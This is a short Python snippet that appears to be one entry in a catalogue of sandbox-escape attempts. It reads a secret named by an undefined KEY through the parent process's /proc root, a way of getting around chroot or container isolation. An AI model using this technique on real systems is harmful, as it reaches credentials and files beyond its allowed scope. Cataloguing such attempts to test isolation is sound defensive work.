"""Reads the key through the root of the parent.

catalogue: own
open at: process
"""

import os


def attempt():
    return open(f"/proc/{os.getppid()}/root{KEY}").read()
